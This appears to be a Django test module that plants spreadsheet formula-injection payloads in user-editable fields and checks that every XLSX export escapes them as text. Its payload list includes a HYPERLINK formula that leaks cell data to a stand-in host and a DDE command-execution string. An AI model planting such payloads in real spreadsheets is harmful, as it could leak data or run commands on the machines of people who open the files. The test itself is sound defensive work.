"""No user text comes out of a spreadsheet export as a formula (formula / CSV injection).

The exports are found, not listed by hand: every function under duban/ that builds an openpyxl
Workbook is a writer, and ``test_every_writer_is_covered`` fails when a writer has no door in
DOORS. Each door is then fetched as a user would (page or command) with hostile text planted in
every user-editable field it shows, and every cell of every sheet is checked.
"""

import ast
import datetime
import io
import re
import tempfile
import zipfile
from pathlib import Path

from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from duban.core.xlsx import FORMULA_TRIGGERS
from duban.indicators import services as indicator_services
from duban.indicators.models import Indicator, Region, RegionGroup, Value
from duban.indicators.tests.base import CHANGCHUN, IndicatorTestCase
from duban.org.models import Unit
from duban.plans.models import Assignment, Item, Measure, Plan, Section
from duban.projects import services as project_services
from duban.reports.models import Report
from duban.reports.tests.helpers import fill, open_round, published_plan
from duban.supervision import services as supervision_services

ROOT = Path(__file__).resolve().parents[3]
PAYLOADS = [
    '=HYPERLINK("http://evil.invalid/?leak="&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]

# door name → (writer it goes through, how a user gets it: a callable taking the test case)
DOORS = {
    "ledger (page)": (
        "reports.ledger.export_ledger",
        lambda t: t.page(reverse("round-ledger", args=[t.round.pk])),
    ),
    "ledger (duban export ledger)": (
        "reports.ledger.export_ledger",
        lambda t: t.cli("export", "ledger", "--round", t.round.pk),
    ),
    "division (page)": (
        "plans.division_xlsx.export_division",
        lambda t: t.page(reverse("division-export", args=[t.plan.pk])),
    ),
    "division (duban export division)": (
        "plans.division_xlsx.export_division",
        lambda t: t.cli("export", "division", "--plan", t.plan.pk),
    ),
    "problem register": (
        "supervision.documents.problems_xlsx",
        lambda t: t.page(reverse("problem-list") + "?format=xlsx"),
    ),
    "indicator template (page)": (
        "indicators.excel.write_template",
        lambda t: t.page(reverse("indicator-template") + "?period=2014-05"),
    ),
    "indicator template (duban indicators template)": (
        "indicators.excel.write_template",
        lambda t: t.cli("indicators", "template", "--period", "2014-05"),
    ),
    "pivot, regions × periods": (
        "indicators.excel.export_table",
        lambda t: t.page(
            reverse("indicator-pivot") + f"?indicator={t.fai.pk}&from=2014-04&to=2014-05&format=xlsx"
        ),
    ),
    "pivot, indicators × regions": (
        "indicators.excel.export_table",
        lambda t: t.page(
            reverse("indicator-pivot") + "?mode=indicators&period=2014-04&scope=applies&format=xlsx"
        ),
    ),
    "trend chart": (
        "indicators.excel.export_table",
        lambda t: t.page(
            reverse("indicator-chart")
            + f"?indicator={t.fai.pk}&scope=applies&from=2014-01&to=2014-04&format=xlsx"
        ),
    ),
    "map": (
        "indicators.excel.export_table",
        lambda t: t.page(reverse("indicator-map") + f"?indicator={t.fai.pk}&period=2014-05&format=xlsx"),
    ),
    "targets": (
        "indicators.excel.export_table",
        lambda t: t.page(reverse("indicator-targets") + "?year=2014&format=xlsx"),
    ),
    "indicator dictionary": (
        "indicators.excel.export_table",
        lambda t: t.page(reverse("indicator-list") + "?format=xlsx"),
    ),
    "regions": (
        "indicators.excel.export_table",
        lambda t: t.page(reverse("indicator-regions") + "?format=xlsx"),
    ),
    "completeness": (
        "indicators.excel.export_table",
        lambda t: t.page(reverse("indicator-completeness") + "?period=2014-05&format=xlsx"),
    ),
    "key projects ledger (page)": (
        "projects.ledger.export_ledger",
        lambda t: t.page(reverse("project-ledger") + "?year=2014"),
    ),
    "key projects ledger (duban projects export)": (
        "projects.ledger.export_ledger",
        lambda t: t.cli("projects", "export", "--year", 2014),
    ),
    "audit log (the audit admin's export)": (
        "audit.exports.write_xlsx",
        lambda t: (t.login(t.auditor), t.page(reverse("audit-export") + "?format=xlsx"))[1],
    ),
}


def writers() -> set[str]:
    """Every function under duban/ (tests aside) that builds an openpyxl Workbook."""
    found = set()
    for path in (ROOT / "duban").rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        module = ".".join(path.relative_to(ROOT / "duban").with_suffix("").parts)
        for fn in ast.walk(tree):
            if not isinstance(fn, ast.FunctionDef):
                continue
            for node in ast.walk(fn):
                if isinstance(node, ast.Call):
                    name = getattr(node.func, "id", getattr(node.func, "attr", ""))
                    if name == "Workbook":
                        found.add(f"{module}.{fn.name}")
    return found


class ExportInjectionTests(IndicatorTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        p = iter(PAYLOADS * 4)
        cls.plan = published_plan(cls)
        Plan.objects.filter(pk=cls.plan.pk).update(title=next(p))
        Section.objects.filter(plan=cls.plan).update(title=next(p))
        Item.objects.filter(plan=cls.plan, key="（一）").update(title=next(p))
        Measure.objects.filter(item__plan=cls.plan).update(text=next(p))
        Assignment.objects.filter(item__plan=cls.plan).update(responsible_person=next(p))
        Unit.objects.filter(pk=cls.other_unit.pk).update(short_name=next(p), aliases=[next(p)])
        cls.round = open_round(cls, cls.plan)
        for report in Report.objects.filter(round=cls.round, unit=cls.unit)[:2]:
            fill(report, cls.reporter, progress=next(p), problems=next(p), next_steps=next(p))
        problem = supervision_services.problem_raise(
            actor=cls.admin,
            owner=cls.unit,
            title=PAYLOADS[0],
            description=PAYLOADS[1],
            level="provincial",
            category=PAYLOADS[2],
            items=[],
            due_date=datetime.date(2099, 1, 1),
        )
        supervision_services.problem_act(actor=cls.admin, problem=problem, text=PAYLOADS[3])
        Indicator.objects.filter(pk=cls.fai.pk).update(name=PAYLOADS[1], unit_of_measure=PAYLOADS[4])
        Indicator.objects.filter(pk=cls.trade.pk).update(name=PAYLOADS[0])
        Region.objects.filter(code=CHANGCHUN).update(name=PAYLOADS[5], short_name=PAYLOADS[6])
        RegionGroup.objects.create(code="evil", name=PAYLOADS[3]).members.add(
            *Region.objects.filter(code=CHANGCHUN)
        )
        Value.objects.filter(indicator=cls.fai, period__code="2014-05").update(note=PAYLOADS[2])
        indicator_services.target_set(
            actor=None, indicator=cls.fai, region=Region.objects.get(code=CHANGCHUN), year=2014, value=800
        )
        project_services.project_create(
            actor=cls.admin, name=PAYLOADS[4], kind="railway", owner=PAYLOADS[5], lead_unit=cls.unit
        )

    def page(self, url: str) -> bytes:
        r = self.client.get(url)
        self.assertEqual(r.status_code, 200, url)
        return r.content

    def cli(self, *args) -> bytes:
        with tempfile.TemporaryDirectory() as d:
            out = Path(d) / "out.xlsx"
            call_command(*[str(a) for a in args], "--out", str(out), stdout=io.StringIO())
            return out.read_bytes()

    def test_every_writer_is_covered(self):
        self.assertEqual(writers(), {w for w, _get in DOORS.values()})

    def test_no_user_text_comes_out_as_a_formula(self):
        self.login(self.admin)
        for door, (_writer, get) in DOORS.items():
            with self.subTest(door):
                data = get(self)
                self.assert_no_formula(door, data)

    def assert_no_formula(self, door: str, data: bytes) -> None:
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            for name in zf.namelist():
                if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                    self.assertIsNone(re.search(rb"<f[\s>]", zf.read(name)), f"{door}: a formula in {name}")
        wb = load_workbook(io.BytesIO(data))
        planted = set()
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    self.assertNotEqual(c.data_type, "f", f"{door}: {ws.title}!{c.coordinate} is a formula")
                    if isinstance(c.value, str) and c.value.startswith(FORMULA_TRIGGERS):
                        self.assertTrue(
                            c.quotePrefix, f"{door}: {ws.title}!{c.coordinate} {c.value!r} not text"
                        )
                    if isinstance(c.value, str):
                        planted |= {p for p in PAYLOADS if p in c.value}
        # the hostile text did reach the export (else the checks above prove nothing)
        self.assertTrue(planted, f"{door}: none of the planted text is in the export")

    def test_the_round_trip_reads_back_the_original_text(self):
        """Export the 分工 sheet, edit nothing, import it: the 责任人 read back is the hostile text
        as it was, so the import sees no change."""
        from duban.plans.division_xlsx import check_division, export_division

        check = check_division(self.plan, export_division(self.plan))
        self.assertEqual(check.errors, [])
        self.assertEqual(check.changes, [])
        person = Assignment.objects.filter(item__plan=self.plan).first().responsible_person
        self.assertTrue(person.startswith(FORMULA_TRIGGERS))
        wb = load_workbook(io.BytesIO(export_division(self.plan)))
        people = {c.value for c in wb["分工"]["G"][1:]}
        self.assertIn(person, people)

    def test_the_indicator_template_round_trip_reads_back_the_original_text(self):
        """The template of indicators and regions with hostile names, imported unchanged: nothing
        to fix, and the note planted in it comes back as it was."""
        from duban.indicators.catalog import load_catalog
        from duban.indicators.excel import entry_template, read_workbook
        from duban.indicators.tests.base import month

        cat = load_catalog()
        data = entry_template(cat, [cat.indicators[self.fai.pk]], month("2014-05"), self.unit.name)
        parsed = read_workbook(io.BytesIO(data), load_catalog())
        self.assertEqual(parsed.errors, [])
        notes = {e.note for e in parsed.entries if e.note}
        self.assertEqual(notes, {PAYLOADS[2]})
